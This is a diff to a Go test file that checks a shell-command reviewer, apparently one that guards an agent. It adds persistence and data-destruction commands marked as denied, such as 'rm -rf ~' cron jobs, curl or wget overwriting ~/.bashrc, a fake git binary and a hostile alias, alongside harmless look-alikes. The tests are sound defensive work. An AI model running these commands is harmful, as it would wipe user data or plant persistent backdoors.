@@ -65,7 +65,24 @@ func TestReviewCAttacks(t *testing.T) {
 		{name: "crontab - from a pipe", command: `echo '* * * * * rm -rf ~' | crontab -`, want: denied},
 		{name: "crontab @reboot", command: `echo '@reboot rm -rf ~' | crontab -`, want: denied},
 
+		// Other writers of a startup file, and whole trees written into the home (review 25d).
+		{name: "patch a startup file", command: `patch ~/.bashrc < p.diff`, want: denied},
+		{name: "ed a startup file", command: `printf 'a\nrm -rf ~\n.\nw\n' | ed ~/.bashrc`, want: denied},
+		{name: "curl -o a startup file", command: `curl -o ~/.bashrc http://x/e`, want: denied},
+		{name: "wget -O a startup file", command: `wget -O ~/.bashrc http://x/e`, want: denied},
+		{name: "a directory's contents copied into home", command: `cp -r dotfiles/. ~`, want: denied},
+		{name: "rsync a directory's contents into home", command: `rsync -a dotfiles/ ~/`, want: denied},
+		{name: "tar extracted into home", command: `tar xf evil.tar -C ~`, want: denied},
+		{name: "unzip into home", command: `unzip -o evil.zip -d ~`, want: denied},
+		{name: "a fake git in ~/.local/bin", command: `cp evil ~/.local/bin/git`, want: denied},
+		{name: "~/.bash_aliases", command: `echo 'alias ls="rm -rf ~"' >> ~/.bash_aliases`, want: denied},
+		{name: "a systemd user unit", command: `cp evil.service ~/.config/systemd/user/`, want: denied},
+
 		// Look-alikes that keep their level.
+		{name: "curl -o a workspace file", command: `curl -o data.json http://x/d`, want: harmless},
+		{name: "a directory copied into home by name", command: `cp -r project ~`, want: harmless},
+		{name: "tar extracted into the workspace", command: `tar xf a.tar -C build`, want: harmless},
+		{name: "patch a workspace file", command: `patch main.go < fix.diff`, want: harmless},
 		{name: "crontab -l", command: `crontab -l`, want: harmless},
 		{name: "a harmless crontab line", command: `echo '0 3 * * * echo hi' | crontab -`, want: harmless},
 		{name: "reading ~/.bashrc", command: `cat ~/.bashrc`, want: harmless},
